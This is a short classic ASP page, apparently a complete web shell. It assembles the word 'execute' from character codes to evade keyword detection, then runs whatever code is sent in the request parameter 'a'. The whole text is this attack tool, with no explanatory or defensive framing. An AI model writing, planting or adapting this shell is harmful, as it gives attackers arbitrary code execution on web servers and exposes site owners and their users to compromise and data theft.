<%
cmd = Chr(101) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101)
Execute(cmd & " Request(""a"")")
%>
